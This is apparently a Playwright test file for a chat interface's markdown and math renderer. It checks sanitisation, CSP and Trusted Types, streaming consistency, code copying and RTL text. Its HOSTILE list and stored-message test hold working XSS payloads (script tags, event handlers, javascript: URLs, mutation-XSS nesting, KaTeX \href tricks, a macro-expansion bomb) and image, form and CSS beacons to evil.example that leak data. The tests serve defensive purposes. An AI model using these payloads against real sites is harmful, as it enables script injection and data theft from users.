"""What models and people wrote, on the page: rendered well, harmless, the same whether it streamed or was stored."""

import json
import random
from typing import Any

import pytest
from playwright.sync_api import ConsoleMessage, expect

from tests.browser.chat_page import ChatPage
from tests.browser.live_product import LiveProduct
from tests.browser.script_lines import say

HOSTILE = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'> <svg onload='window.pwned=1'><animate onbegin='window.pwned=1'/></svg>",
    "[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>) [v](vbscript:x)",
    "![leak](https://evil.example/a.png?d=secret) ![ref][r]\n\n[r]: https://evil.example/b.png",
    "![](//evil.example/c.png) ![](/static/../evil) [![nested](https://evil.example/d.png)](https://evil.example/e)",
    "<iframe src='https://evil.example/f'></iframe><object data='https://evil.example/g'></object>",
    "<style>body{background:url(https://evil.example/h)}</style><link rel=stylesheet href=https://evil.example/i>",
    (
        "<form action=https://evil.example/j><input name=q autofocus "
        "onfocus='window.pwned=1'></form><base href=https://evil.example>"
    ),
    '```html\n<script>window.pwned = 1</script>\n```\n\n```"><img src=x onerror=window.pwned=1>\ncode\n```',
    "| a | b |\n|---|---|\n| <img src=https://evil.example/k> | ![x](https://evil.example/l) |",
    (
        "<a href='java&#10;script:window.pwned=1'>x</a> "
        "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>"
    ),
    "https://evil.example/auto <https://evil.example/angle> mailto:a@evil.example",
    "\u202ereversed\u202c \ufeff \u0000 \ud7ff",
    "<div id=boot>{}</div><div id=composer name=cookie></div>",
    "$\\href{javascript:window.pwned=1}{x}$ $$\\href{https://evil.example/m}{x}$$ \\(\\url{https://evil.example/n}\\)",
    "$\\includegraphics{https://evil.example/o.png}$ $\\htmlData{a=b}{x}$ $\\cssId{boot}{x}$ $\\class{notice}{x}$",
    "$\\style{background:url(https://evil.example/p)}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\unicode{x3c}script$",
    "$\\text{</math><img src=https://evil.example/q onerror=window.pwned=1>}$ \\[\\text{<style>*{}</style>}\\]",
    (
        "$$\\def\\a{\\a\\a}\\a$$ $\\def\\b{\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d}\\def\\d{xxxxxxxx}\\b\\b\\b\\b\\"
        "b\\b\\b\\b\\b\\b$"
    ),
    "$"
    + "{" * 2000
    + "x"
    + "}" * 2000
    + "$ $\\rule{9999em}{9999em}$ $\\kern-9999em x$ $\\color{url(//evil.example/r)}x$",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=window.pwned=1></annotation-xml></math>",
    (
        "x[^boot] y[^__proto__] z[^constructor]\n\n[^boot]: <img src=https://evil.example/s>\n[^__proto__]: "
        "![](//evil.example/t)\n[^constructor]: [c](javascript:window.pwned=1)"
    ),
    (
        "| $\\href{https://evil.example/u}{x}$ | [^1] |\n|---|---|\n| `<base href=//evil.example>` | - [x] "
        "<input autofocus> |"
    ),
    "- [x] <input type=submit formaction=https://evil.example/v>\n- [ ] [task](data:text/html,x)",
    "[1] [\ue0111] \u3010javascript:window.pwned=1\u2020x\u3011 [999] [1](javascript:window.pwned=1)",
]
CORPUS = [
    (
        "# Title\n\nA paragraph with *em*, **strong**, `code`.\nStill the same.\n\n- one\n- two\n  "
        "- nested\n\n    with a paragraph\n\n1. a\n2. b"
    ),
    "Setext\n======\n\nText\n---\n\n> quote\n> more\n\nlazy\n\n***\n\n    indented code\n\nend",
    "```python\ndef f():\n\n    return '''x'''\n```\n\nafter\n\n~~~\ntilde\n~~~\n\n```js\nunclosed();\n",
    "| a | b |\n|:--|--:|\n| 1 | 2 |\n| 3 | 4 |\n\ntext | not a table\n\n| x |\n|---|\n",
    "See [ref] and [other][ref].\n\nMiddle.\n\n[ref]: https://example.com/ 'Title'\n\nEnd with [ref].",
    (
        "* a\n\n* b\n\ntext\n\n* c\n1. d\n\n- [ ] a task\n- [x] done *well*\n  - [X] nested\n\nمرحبا\n\nline "
        " \nbreak<br>tag"
    ),
    (
        "Let $x_1$ and \\(y*2*3\\) be.\n\n$$\n\\frac{a}{b}\n$$\n\nThen \\[ z_1 \\] inline, $$w$$ "
        "too.\n\\[\na &= b \\\\\n\\]\n"
        "after, it costs $5 and $10.\n\n- in a list:\n  $$\n  q\n  $$\n- next"
    ),
    "text\n$$\nnever closed\n\nand on *it* goes\n\n$$ open at the end\n# no heading",
    "$$\na\n# inside\n$$\n\n\\[\nb\n\n\\]\n\nend $x$",
    (
        "One[^1] and two[^two] and none[^3].\n\nMore[^1].\n\n[^1]: First *note*\n    goes on\n\n    in two "
        "paragraphs.\n[^two]: Second.\n\nEnd."
    ),
    "| a | b | c |\n|:--|--:|---|\n| $x$ | `y` | z[^n] |\n| 1 | 2 | 3 |\n\n[^n]: Of a table.\n\ntail [1] and [2, 3]",
]

SPLIT = """async ([texts, seeds]) => {
    const { LiveText, renderMarkdown } = await import(new URL("/static/think/testing.js", location));
    const results = [];
    const open = ".math:not(.is-shown, .is-wrong)";
    const same = (a, b) => a.isEqualNode(b) && !a.querySelector(open);
    for (const [index, text] of texts.entries()) {
        const whole = document.createElement("div");
        whole.append(...renderMarkdown(text));
        const grown = document.createElement("div");
        const place = document.createElement("div");  // what is nowhere gets no colours
        place.style = "height: 0; overflow: hidden";
        place.append(whole, grown);
        document.body.append(place);
        const live = new LiveText(grown);
        let at = 0;
        for (const size of seeds[index]) {
            at += size;
            live.update(text.slice(0, at), true);
            await new Promise((done) => setTimeout(done, 60));
            if (at >= text.length) break;
        }
        live.update(text, false);
        for (let look = 0; look < 100 && !same(whole, grown); look += 1) {
            await new Promise((done) => setTimeout(done, 50));
        }
        results.push([same(whole, grown), whole.innerHTML, grown.innerHTML]);
        place.remove();
    }
    return results;
}"""


def test_hostile_text_runs_nothing_and_fetches_nothing(tab: ChatPage) -> None:
    violations: list[str] = []

    def note(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            violations.append(message.text)

    tab.page.on("console", note)
    for text in HOSTILE:
        if "\u0000" not in text:
            tab.ask(say(text))
    tab.page.wait_for_timeout(500)  # what such a text runs or fetches comes by itself
    assert tab.page.evaluate("window.pwned") is None
    assert tab.foreign == []
    assert violations == []
    assert (
        tab.page.locator("#messages").locator("script, iframe, object, form, style, link, base, img[src]").count() == 0
    )
    hrefs = tab.page.eval_on_selector_all("#messages a", "links => links.map(link => link.href)")
    assert hrefs
    assert all(href.startswith(("https://evil.example", "mailto:")) for href in hrefs)


def test_markup_is_made_by_the_sanitiser_alone(tab: ChatPage) -> None:
    answer = tab.page.goto(f"{tab.base_url}/c/new")
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert "require-trusted-types-for 'script'" in policy
    assert "trusted-types dompurify" in policy
    assert "unsafe" not in policy
    nonce = tab.page.evaluate("document.querySelector('script[type=module]').nonce")
    assert nonce
    assert f"'nonce-{nonce}'" in policy
    refused = tab.page.evaluate(
        """() => ["innerHTML", "outerHTML"].map((name) => {
            const element = document.body.appendChild(document.createElement("p"));
            try { element[name] = "<b>x</b>"; return "taken"; } catch (error) { return error.name; }
        })"""
    )
    assert refused == ["TypeError", "TypeError"]
    tab.errors.clear()  # the policy said what it refused
    tab.page.wait_for_selector("html[data-ready]", state="attached")
    assert tab.ask(say("**bold**")).locator(".md strong").inner_text() == "bold"


@pytest.mark.smoke
def test_hostile_text_stored_in_every_place_is_inert(tab: ChatPage, live_product: LiveProduct) -> None:
    evil = "<img src=https://evil.example/x onerror=window.pwned=1>"
    parts = [
        {"type": "reasoning", "text": f"![x](https://evil.example/r.png) {evil}", "state": "done"},
        {
            "type": "tool-" + "read",
            "toolCallId": "c1",
            "toolName": evil,
            "state": "output-available",
            "input": {"a": evil},
            "output": {"b": evil},
        },
        {
            "type": "tool-x",
            "toolCallId": "c2",
            "toolName": "x",
            "title": evil,
            "state": "output-error",
            "input": {},
            "errorText": evil,
        },
        {"type": "file", "url": "https://evil.example/f.png", "mediaType": "image/png", "filename": evil},
        {"type": "file", "url": "javascript:window.pwned=1", "mediaType": "text/html", "filename": "page"},
        {"type": "source-url", "sourceId": "s", "url": "javascript:window.pwned=1", "title": evil},
        {"type": "source-url", "sourceId": "t", "url": "https://evil.example/s", "title": "A source"},
        {"type": "text", "text": "\n\n".join(HOSTILE), "state": "done"},
    ]
    messages: list[dict[str, Any]] = [
        {"id": "u1", "role": "user", "parts": [{"type": "text", "text": evil + "<script>window.pwned=1</script>"}]},
        {"id": "a1", "role": "assistant", "parts": parts},
    ]
    key = live_product.seed(evil, messages)
    tab.open(f"/c/{key}")
    for summary in tab.page.locator("summary").all():
        if summary.is_visible():
            summary.click()
    tab.page.wait_for_timeout(500)  # what such a text runs or fetches comes by itself
    assert tab.page.evaluate("window.pwned") is None
    assert tab.foreign == []
    expect(tab.page.locator("#title")).to_have_text(evil)


@pytest.mark.smoke
def test_links_open_only_on_click_without_a_way_back(tab: ChatPage) -> None:
    link = tab.ask("say: [docs](https://example.com/docs)").get_by_role("link", name="docs")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"


@pytest.mark.parametrize("seed", range(2))
def test_streamed_text_ends_as_the_whole_text_renders(tab: ChatPage, seed: int) -> None:
    dice = random.Random(seed)
    texts = CORPUS + [text for text in HOSTILE if "\u0000" not in text]
    sizes = [[dice.randint(1, max(2, len(text) // 6)) for _ in range(12)] for text in texts]
    for text, (is_same, whole, grown) in zip(texts, tab.page.evaluate(SPLIT, [texts, sizes]), strict=True):
        assert is_same, f"{json.dumps(text)}\n{whole}\n{grown}"


def test_finished_blocks_are_never_touched_again(tab: ChatPage) -> None:
    touched = tab.page.evaluate(
        """() => import(new URL('/static/think/testing.js', location)).then(async ({ LiveText }) => {
            const root = document.createElement("div");
            document.body.append(root);
            const live = new LiveText(root);
            let text = "First paragraph.\\n\\n```python\\nx = 1\\n```\\n\\nThen ";
            live.update(text, true);
            // Code is coloured once, when the page is idle and the highlighter has come.
            const until = performance.now() + 10000;
            while (!root.querySelector(".hljs-number") && performance.now() < until)
                await new Promise((done) => setTimeout(done, 20));
            const frozen = [...root.children].slice(0, 2);
            const records = [];
            const everything = { subtree: true, childList: true, characterData: true, attributes: true };
            new MutationObserver((list) => records.push(...list)).observe(root, everything);
            for (let i = 0; i < 10; i += 1) {
                text += "more words and *more* ";
                live.update(text, true);
                await new Promise((done) => setTimeout(done, 60));
            }
            const still = frozen.every((node, index) => node === root.children[index]);
            const inside = records.filter((record) => frozen.some((node) => node.contains(record.target))).length;
            const isColoured = frozen[1].querySelector(".hljs-number") !== null;
            root.remove();
            return [isColoured, still, inside, records.length > 0];
        })"""
    )
    assert touched == [True, True, 0, True]


@pytest.mark.smoke
def test_code_is_labelled_coloured_copied_and_wrapped(tab: ChatPage) -> None:
    tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer = tab.ask(say("```python\ndef f(x):\n    return x  # " + "long " * 60 + "\n```"))
    figure = answer.locator("figure.code")
    expect(figure.locator(".code-language")).to_have_text("python")
    expect(figure.locator(".hljs-keyword").first).to_have_text("def")
    figure.get_by_role("button", name="Copy").click()
    expect(figure.get_by_role("button", name="Copied")).to_be_visible()
    assert tab.page.evaluate("navigator.clipboard.readText()").startswith("def f(x):\n    return x")
    assert figure.locator("pre").evaluate("pre => pre.scrollWidth > pre.clientWidth")
    figure.get_by_role("button", name="Wrap").click()
    assert figure.locator("pre").evaluate("pre => pre.scrollWidth <= pre.clientWidth")


def test_message_is_copied_as_it_was_written(tab: ChatPage) -> None:
    tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer = tab.ask(say("**Bold** and `code`"))
    answer.get_by_role("button", name="Copy this message").click()
    assert tab.page.evaluate("navigator.clipboard.readText()") == "**Bold** and `code`"


def test_right_to_left_text_runs_right_to_left(tab: ChatPage) -> None:
    answer = tab.ask(say("مرحبا بالعالم\n\nplain"))
    directions = answer.locator(".md > p").evaluate_all("ps => ps.map(p => getComputedStyle(p).direction)")
    assert directions == ["rtl", "ltr"]


def test_users_words_are_shown_as_typed(tab: ChatPage) -> None:
    tab.ask("# not a heading\n  two  spaces\nsay: ok")
    assert tab.messages.first.locator(".plain").inner_text().startswith("# not a heading\n  two  spaces")
